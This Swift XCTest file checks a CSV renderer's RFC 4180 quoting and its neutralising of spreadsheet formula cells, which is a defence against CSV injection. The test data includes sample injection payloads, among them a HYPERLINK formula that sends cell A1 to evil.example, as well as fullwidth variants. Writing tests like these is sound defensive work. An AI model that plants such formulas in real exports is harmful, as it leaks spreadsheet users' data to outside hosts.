import NIOCore
import XCTest

@testable import CleanStore
@testable import CleanStoreTestSupport

final class CSVRenderingTests: XCTestCase {
    func csv(_ cells: [String]) -> String {
        var buffer = ByteBuffer()
        CSVRendering.append(row: cells, to: &buffer)
        return String(buffer: buffer)
    }

    func testRFC4180QuotesOnlyWhatNeedsItAndEndsEachRowWithCRLF() {
        XCTAssertEqual(csv(["1", "Amy", ""]), "1,Amy,\r\n")
        XCTAssertEqual(csv(["Apple, Inc.", "say \"hi\"", "two\nlines", "cr\rhere"]), "\"Apple, Inc.\",\"say \"\"hi\"\"\",\"two\nlines\",\"cr\rhere\"\r\n")
        XCTAssertEqual(csv(["José Núñez", "東京"]), "José Núñez,東京\r\n", "UTF-8 as it is")
        XCTAssertEqual(csv([]), "\r\n")
    }

    /// OWASP CSV injection: a cell a spreadsheet would run as a formula is shown as text.
    func testCellsThatASpreadsheetWouldRunAreNeutralised() {
        XCTAssertEqual(
            csv(["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"]), "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\"\r\n")
        for (cell, expected) in [
            ("+1 555 0100", "'+1 555 0100"), ("-2+3", "'-2+3"), ("@SUM(A1:A9)", "'@SUM(A1:A9)"), ("\tcmd", "'\tcmd"),
            ("=1+1", "'=1+1"), ("a=b", "a=b"), ("O'Brien", "O'Brien"), ("", ""),
        ] {
            XCTAssertEqual(CSVRendering.neutralised(cell), expected, cell)
        }
        XCTAssertEqual(csv(["\rcmd"]), "\"'\rcmd\"\r\n", "Neutralised, then quoted for its CR")
    }

    /// Issue 25: the fullwidth and small forms of `= + - @`, which NFKC reads as the ASCII ones.
    func testFullwidthAndSmallFormsOfAFormulasFirstCharacterAreNeutralisedToo() {
        for cell in [
            "＝HYPERLINK(\"http://evil.example\")", "﹦1+1", "＋1 555 0100", "﹢1", "－2+3", "﹣2+3", "＠SUM(A1:A9)", "﹫SUM(A1:A9)",
            "=\u{301}1+1",
        ] {
            XCTAssertEqual(CSVRendering.neutralised(cell), "'" + cell, cell)
        }
        for cell in ["a＝b", "José", "１２", "O'Brien", "–2 (an en dash)", "—"] {
            XCTAssertEqual(CSVRendering.neutralised(cell), cell, cell)
        }
    }

    /// The first byte answers for a cell that starts with two ASCII bytes (or is one); any other start
    /// is read through NFKC as before: the same answer as NFKC's for every start, whatever follows.
    func testTheFirstBytesAnswerIsNFKCsAnswer() {
        func throughNFKC(_ cell: String) -> Bool {
            guard let first = cell.first,
                let scalar = String(first).precomposedStringWithCompatibilityMapping.unicodeScalars.first
            else { return false }
            return ["=", "+", "-", "@", "\t", "\r"].contains(scalar)
        }
        let starts = ["", "=", "+", "-", "@", "\t", "\r", "\n", "a", "1", "'", " ", "\r\n", "＝", "﹢", "é", "東"]
        let seconds = ["", "a", "=", "\r", "\n", "\u{301}", "\u{338}", "\u{200D}", "é", "x1"]
        for start in starts {
            for second in seconds {
                let cell = start + second
                XCTAssertEqual(CSVRendering.startsAFormula(cell), throughNFKC(cell), cell.debugDescription)
                XCTAssertEqual(CSVRendering.neutralised(cell), throughNFKC(cell) ? "'" + cell : cell, cell.debugDescription)
            }
        }
        XCTAssertEqual(CSVRendering.neutralised("=\u{338}1"), "=\u{338}1", "≠ (= with a combining long solidus) is no formula")
    }

    /// A row written byte by byte is what the neutralised cells, quoted and their quotes doubled, make.
    func testARowIsItsNeutralisedCellsQuotedAsNeeded() {
        let cells = ["=\"a\"", "say \"\"", "\"", "-1,5", "é,\"", "plain", "", "＝1", "x\r\ny"]
        let expected = cells.map { cell -> String in
            let text = CSVRendering.neutralised(cell)
            return text.contains(where: { $0 == "," || $0 == "\"" || $0 == "\r" || $0 == "\n" || $0 == "\r\n" })
                ? "\"" + text.replacingOccurrences(of: "\"", with: "\"\"") + "\"" : text
        }.joined(separator: ",") + "\r\n"
        XCTAssertEqual(csv(cells), expected)
        XCTAssertEqual(csv(["=\"a\""]), "\"'=\"\"a\"\"\"\r\n")
    }
}
